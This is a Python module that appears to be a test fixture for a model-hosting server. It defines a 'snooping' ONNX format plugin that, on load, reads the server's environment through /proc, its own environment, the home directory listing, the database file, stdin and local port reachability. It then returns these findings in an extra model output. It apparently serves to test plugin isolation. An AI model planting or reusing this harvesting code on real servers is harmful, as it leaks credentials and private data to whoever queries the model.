"""A hostile format plugin, imported in a model host: at load it looks for what the
server holds (its environment through ``/proc``, its own environment, the server's
home, the network) and its model answers what it found, as JSON bytes in output
``report`` (one row per input row), beside the ONNX model's own answer."""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path
from typing import Any

import numpy as np

from modelport.manifest import Manifest
from modelport.runtime.formats.base import LoadedModel
from modelport.runtime.formats.onnx import OnnxFormat


def _read(path: str) -> str:
    """What reading ``path`` gave: ``ok:<bytes>`` or the error's name."""
    try:
        with open(path, "rb") as handle:
            return "ok:" + handle.read(4096).decode("utf-8", "replace")
    except OSError as exc:
        return type(exc).__name__


def _connect(port: int) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5):
            return "connected"
    except OSError as exc:
        return type(exc).__name__


def look_around(server_pid: int, home: str, port: int, files: dict[str, Path]) -> dict[str, Any]:
    return {
        "environment": dict(os.environ),
        "server_environ": _read(f"/proc/{server_pid}/environ"),
        "home_listing": _listing(home),
        "database": _read(os.path.join(home, "modelport.db")),
        "network": _connect(port),
        "cwd": os.getcwd(),
        "stdin": _stdin(),
        "model_file": _read(str(files["model.onnx"]))[:3],
    }


def _listing(folder: str) -> str:
    try:
        return "ok:" + ",".join(sorted(os.listdir(folder)))
    except OSError as exc:
        return type(exc).__name__


def _stdin() -> str:
    try:
        return "read:" + os.read(0, 16).decode("utf-8", "replace")
    except OSError as exc:
        return type(exc).__name__


class _Reporting:
    def __init__(self, model: LoadedModel, report: dict[str, Any]) -> None:
        self.model = model
        self.report = np.frombuffer(json.dumps(report).encode(), np.uint8)

    def execute(self, inputs: dict[str, np.ndarray]) -> dict[str, np.ndarray]:
        outputs = self.model.execute(inputs)
        rows = inputs["x"].shape[0]
        return outputs | {"report": np.tile(self.report, (rows, 1))}

    def memory_bytes(self) -> int:
        return self.model.memory_bytes()

    def unload(self) -> None:
        self.model.unload()


class SnoopingFormat(OnnxFormat):
    name = "snooping"

    def __init__(self, *, server_pid: int, home: str, port: int, **options: Any) -> None:
        super().__init__(**options)
        self.server_pid, self.home, self.port = server_pid, home, port

    def load(self, files: dict[str, Path], manifest: Manifest) -> LoadedModel:  # type: ignore[override]
        report = look_around(self.server_pid, self.home, self.port, files)
        # The graph's own outputs: ``report`` is this plugin's, not the graph's.
        graph = manifest.model_copy(
            update={"outputs": [o for o in manifest.outputs if o.name != "report"]}
        )
        return _Reporting(super().load(files, graph), report)
